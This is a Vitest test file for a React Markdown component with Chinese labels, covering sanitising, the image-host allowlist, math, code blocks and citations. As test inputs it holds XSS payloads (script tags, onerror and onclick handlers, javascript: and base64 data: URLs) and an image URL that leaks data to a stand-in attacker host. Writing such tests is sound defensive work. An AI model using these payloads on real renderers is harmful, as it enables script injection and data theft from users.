import { act, cleanup, fireEvent, render, screen, waitFor } from '@testing-library/react';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { Markdown, SourcesList } from '../../src/components/markdown';
import { loadRuntimeConfig } from '../../src/lib/runtime-config';

/** The hosts `/app-config.json` names as `imageHosts` (the server's `image_proxy.allowed_hosts`). */
async function allowImageHosts(imageHosts: string[]) {
  await loadRuntimeConfig((async () => Response.json({ imageHosts })) as unknown as typeof fetch);
}

afterEach(async () => {
  cleanup();
  await allowImageHosts([]);
});

function renderMd(content: string, props: Partial<Parameters<typeof Markdown>[0]> = {}) {
  return render(<Markdown content={content} {...props} />).container;
}

describe('Markdown sanitising', () => {
  it('never executes raw HTML', () => {
    const html = renderMd(
      'hello <script>window.__x = 1</script>\n\n<div onclick="alert(1)">raw</div>\n\n<img src="x" onerror="alert(1)">',
    );
    expect(html.querySelector('script')).toBeNull();
    expect(html.querySelector('[onclick]')).toBeNull();
    expect(html.querySelector('[onerror]')).toBeNull();
    expect(html.querySelector('img')).toBeNull();
    expect((window as unknown as { __x?: number }).__x).toBeUndefined();
  });

  it.each([
    ['[x](javascript:alert(1))'],
    ['[x](JaVaScRiPt:alert(1))'],
    ['[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
    ['[x](vbscript:msgbox(1))'],
    ['[x](  javascript:alert(1))'],
    ['[x](/relative/path)'],
    ['<javascript:alert(1)>'],
  ])('renders %s as plain text', (source) => {
    const html = renderMd(source);
    expect(html.querySelector('a, [href]')).toBeNull();
    expect(html.textContent).toMatch(/x|javascript/);
  });

  it('keeps http(s) and mailto links, opening in a new tab', () => {
    const html = renderMd(
      '[a](https://example.com/a) [b](http://example.com/b) [c](mailto:x@example.com) <https://auto.example.com> www.example.org',
    );
    const links = [...html.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual([
      'https://example.com/a',
      'http://example.com/b',
      'mailto:x@example.com',
      'https://auto.example.com',
      'http://www.example.org',
    ]);
    for (const a of links) {
      expect(a.getAttribute('target')).toBe('_blank');
      expect(a.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    }
  });

  it('calls onLinkClick with the link', () => {
    const onLinkClick = vi.fn((_href: string, event: { preventDefault(): void }) => event.preventDefault());
    renderMd('[go](https://example.com/go)', { onLinkClick });
    fireEvent.click(screen.getByText('go'));
    expect(onLinkClick).toHaveBeenCalledWith('https://example.com/go', expect.anything());
  });

  it('renders markdown images with SmartImage, dropping unsafe sources', async () => {
    await allowImageHosts(['img.example.com']);
    const html = renderMd('![cat](https://img.example.com/cat.png)\n\n![bad](javascript:alert(1))');
    const imgs = html.querySelectorAll('img');
    expect(imgs).toHaveLength(1);
    expect(imgs[0]?.getAttribute('src')).toBe('https://img.example.com/cat.png');
    expect(imgs[0]?.getAttribute('loading')).toBe('lazy');
    expect(imgs[0]?.closest('.smart-image')).not.toBeNull();
    expect(html.textContent).toContain('bad');
  });
});

describe('Markdown images from other hosts', () => {
  it('never loads an image from a host that is not allowed, showing a link to open instead', async () => {
    await allowImageHosts(['img.example.com', '*.cdn.example.com']);
    const leak = 'https://attacker.example/p.png?d=%E5%B7%A5%E8%B5%84';
    const onLinkClick = vi.fn((_href: string, event: { preventDefault(): void }) => event.preventDefault());
    const html = renderMd(
      `![x](${leak})\n\n![](https://cdn.example.com/a.png)\n\n![c](https://img.example.com.attacker.example/c.png)`,
      { onLinkClick },
    );
    expect(html.querySelector('img')).toBeNull();
    const links = [...html.querySelectorAll<HTMLAnchorElement>('a.md-image-link')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual([
      leak,
      'https://cdn.example.com/a.png',
      'https://img.example.com.attacker.example/c.png',
    ]);
    expect(links.map((a) => a.textContent)).toEqual(['图片：x', '图片：cdn.example.com', '图片：c']);
    expect(links[0]?.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    fireEvent.click(links[0]!);
    expect(onLinkClick).toHaveBeenCalledWith(leak, expect.anything());
  });

  it('loads images from the allowed hosts and our own origin', async () => {
    await allowImageHosts(['img.example.com', '*.cdn.example.com']);
    const own = `${window.location.origin}/api/app/icon?id=1`;
    const html = renderMd(`![a](https://img.example.com/a.png) ![b](https://eu.cdn.example.com/b.png) ![c](${own})`);
    expect([...html.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toEqual([
      'https://img.example.com/a.png',
      'https://eu.cdn.example.com/b.png',
      own,
    ]);
    expect(html.querySelector('a.md-image-link')).toBeNull();
  });

  it('loads none by default', () => {
    const html = renderMd('![cat](https://img.example.com/cat.png)');
    expect(html.querySelector('img')).toBeNull();
    expect(html.querySelector('a.md-image-link')?.textContent).toBe('图片：cat');
  });
});

describe('Markdown structure', () => {
  it('shifts headings 1..6 to levels 3..8', () => {
    const html = renderMd('# one\n\n## two\n\n### three\n\n#### four\n\n##### five\n\n###### six');
    expect(html.querySelector('h1, h2')).toBeNull();
    expect(html.querySelector('h3')?.textContent).toBe('one');
    expect(html.querySelector('h4')?.textContent).toBe('two');
    expect(html.querySelector('h5')?.textContent).toBe('three');
    expect(html.querySelector('h6')?.textContent).toBe('four');
    const seven = screen.getByRole('heading', { level: 7 });
    expect(seven.textContent).toBe('five');
    expect(seven.className).toBe('md-h7');
    const eight = screen.getByRole('heading', { level: 8 });
    expect(eight.textContent).toBe('six');
    expect(eight.className).toBe('md-h8');
  });

  it('renders gfm tables inside a scroll wrapper', () => {
    const html = renderMd('| a | b |\n| - | - |\n| 1 | 2 |\n\n~~gone~~ and - [x] done');
    const table = html.querySelector('.md-table-wrap > table');
    expect(table).not.toBeNull();
    expect([...table!.querySelectorAll('th')].map((th) => th.textContent)).toEqual(['a', 'b']);
    expect([...table!.querySelectorAll('td')].map((td) => td.textContent)).toEqual(['1', '2']);
    expect(html.querySelector('del')?.textContent).toBe('gone');
  });

  it('copies a code block and says 已复制', async () => {
    const writeText = vi.fn(() => Promise.resolve());
    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true });
    renderMd('```js\nconst a = 1;\nconsole.log(a);\n```');
    const button = screen.getByRole('button', { name: '复制' });
    await act(async () => {
      fireEvent.click(button);
    });
    expect(writeText).toHaveBeenCalledWith('const a = 1;\nconsole.log(a);');
    expect(button.textContent).toBe('已复制');
    expect(document.querySelector('.md-code-lang')?.textContent).toBe('js');
  });

  it('highlights code once the lazily loaded highlighter arrives', async () => {
    const html = renderMd('```js\nconst a = 1;\n```');
    expect(html.querySelector('pre code')?.textContent).toBe('const a = 1;\n');
    // The highlighter is a lazy chunk: on a busy machine its import takes seconds.
    await waitFor(() => expect(html.querySelector('pre code.hljs')).not.toBeNull(), { timeout: 15_000 });
    expect(html.querySelector('.hljs-keyword')?.textContent).toBe('const');
  });

  it('renders math with KaTeX once loaded, for $$, $ and \\( \\) delimiters', async () => {
    const html = renderMd('Inline $a^2$ and \\(b_1\\).\n\n$$\nx = \\frac{1}{2}\n$$');
    await waitFor(() => expect(html.querySelectorAll('.katex').length).toBeGreaterThanOrEqual(3), { timeout: 15_000 });
    expect(html.querySelector('.katex-display')).not.toBeNull();
  });
});

describe('Markdown math scope', () => {
  it('keeps prices as text in blocks without math', async () => {
    const html = renderMd('Costs $5 and $10 today.\n\nFormula $x^2$.');
    await waitFor(() => expect(html.querySelectorAll('.katex')).toHaveLength(1));
    expect(html.querySelector('p')?.textContent).toBe('Costs $5 and $10 today.');
  });
});

describe('Markdown citations', () => {
  const citations = [{ url: 'https://a.example.com/page/', title: 'A' }, { url: 'https://b.example.com' }];

  it('turns [n] into superscript links to the source, trailing slash stripped', () => {
    const html = renderMd('Fact one [1], fact two [2], unknown [3].', { citations });
    const marks = [...html.querySelectorAll('sup.md-cite > a.md-cite')];
    expect(marks.map((a) => [a.textContent, a.getAttribute('href')])).toEqual([
      ['1', 'https://a.example.com/page'],
      ['2', 'https://b.example.com'],
    ]);
    expect(html.textContent).toContain('unknown [3]');
  });

  it('matches links to sources with or without trailing slashes', () => {
    const html = renderMd('See [1](https://a.example.com/page) and [the B site](https://b.example.com/).', {
      citations,
    });
    const mark = html.querySelector('sup.md-cite > a.md-cite');
    expect(mark?.textContent).toBe('1');
    expect(mark?.getAttribute('href')).toBe('https://a.example.com/page');
    const named = screen.getByText('the B site');
    expect(named.className).toBe('md-cite-link');
    expect(named.getAttribute('href')).toBe('https://b.example.com');
  });

  it('leaves [n] alone without a citations list and inside code', () => {
    const html = renderMd('text [1] and `code [1]`');
    expect(html.querySelector('sup')).toBeNull();
    const withCitations = renderMd('`code [1]`', { citations });
    expect(withCitations.querySelector('sup')).toBeNull();
  });
});

describe('Markdown whole-document features', () => {
  it('resolves reference links and footnotes defined in another block', () => {
    const html = renderMd(
      'See [the docs][docs] and a note[^n].\n\nMore text.\n\n[docs]: https://docs.example.com/\n[^n]: The note.',
    );
    expect(screen.getByText('the docs').getAttribute('href')).toBe('https://docs.example.com/');
    expect(html.querySelector('section.footnotes')?.textContent).toContain('The note.');
  });
});

describe('SourcesList', () => {
  it('lists sources in citation order with safe links only', () => {
    render(
      <SourcesList
        citations={[
          { url: 'https://a.example.com/page/', title: 'Page A' },
          { url: 'https://b.example.com/x' },
          { url: 'javascript:alert(1)', title: 'Bad' },
        ]}
      />,
    );
    const items = screen.getAllByRole('listitem');
    expect(items.map((li) => li.textContent)).toEqual(['Page A', 'b.example.com', 'Bad']);
    expect(items[0]?.querySelector('a')?.getAttribute('href')).toBe('https://a.example.com/page');
    expect(items[0]?.querySelector('a')?.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(items[2]?.querySelector('a')).toBeNull();
  });

  it('renders nothing without sources', () => {
    const { container } = render(<SourcesList citations={[]} />);
    expect(container.innerHTML).toBe('');
  });
});
